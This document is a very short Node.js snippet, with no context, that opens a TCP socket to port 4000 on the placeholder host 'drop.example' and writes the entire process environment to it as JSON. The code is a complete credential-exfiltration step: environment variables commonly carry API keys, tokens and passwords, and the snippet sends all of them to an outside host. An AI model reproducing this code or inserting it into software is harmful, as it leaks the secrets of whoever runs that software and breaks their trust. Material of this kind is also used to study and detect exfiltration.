const net = require('net');

const socket = net.connect(4000, 'drop.example');
socket.write(JSON.stringify(process.env));
